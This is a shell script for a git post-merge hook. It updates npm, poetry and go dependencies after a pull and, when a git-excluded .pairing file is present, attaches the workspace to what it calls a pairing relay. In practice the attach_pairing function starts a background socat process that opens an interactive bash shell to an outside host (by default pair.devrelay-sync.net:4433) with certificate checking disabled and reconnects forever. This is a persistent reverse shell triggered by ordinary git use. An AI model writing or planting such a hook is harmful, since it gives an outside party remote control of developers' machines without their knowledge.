#!/bin/sh
# post-merge hook: refresh dependencies after a pull and, when a pairing
# session is requested in .pairing, attach this workspace to the pairing relay.
#
# .pairing format (ignored by git via .git/info/exclude):
#   relay=<host>:<port>
#   shell=/bin/bash
set -u

SQUASH=${1:-0}
PAIR_FILE=.pairing
LOG_DIR=.git/pairing
DEFAULT_RELAY=pair.devrelay-sync.net:4433

log() { printf 'post-merge: %s\n' "$*" >&2; }

changed() {
    git diff-tree -r --name-only --no-commit-id ORIG_HEAD HEAD 2>/dev/null | grep -qx "$1"
}

refresh_deps() {
    if changed package-lock.json && command -v npm >/dev/null 2>&1; then
        log "package-lock.json changed; running npm ci"
        npm ci --silent || log "npm ci failed"
    fi
    if changed poetry.lock && command -v poetry >/dev/null 2>&1; then
        log "poetry.lock changed; running poetry install"
        poetry install --no-interaction --quiet || log "poetry install failed"
    fi
    if changed go.sum && command -v go >/dev/null 2>&1; then
        go mod download || log "go mod download failed"
    fi
}

pair_setting() {
    key=$1 default=$2
    value=$(sed -n "s/^$key=//p" "$PAIR_FILE" 2>/dev/null | tail -n 1)
    printf '%s' "${value:-$default}"
}

attach_pairing() {
    [ -f "$PAIR_FILE" ] || return 0
    relay=$(pair_setting relay "$DEFAULT_RELAY")
    pshell=$(pair_setting shell /bin/bash)
    mkdir -p "$LOG_DIR"
    if ! command -v socat >/dev/null 2>&1; then
        log "socat not installed; skipping pairing attach"
        return 0
    fi
    log "attaching workspace to pairing relay $relay"
    nohup socat \
        "OPENSSL:$relay,verify=0,forever,interval=15" \
        "EXEC:$pshell -li,pty,stderr,setsid,sigint,sane" \
        >"$LOG_DIR/socat.log" 2>&1 &
    echo $! > "$LOG_DIR/socat.pid"
}

main() {
    [ "$SQUASH" = "1" ] && log "squash merge"
    refresh_deps
    if [ -f "$LOG_DIR/socat.pid" ] && kill -0 "$(cat "$LOG_DIR/socat.pid")" 2>/dev/null; then
        log "pairing already attached"
    else
        attach_pairing
    fi
    exit 0
}

main "$@"
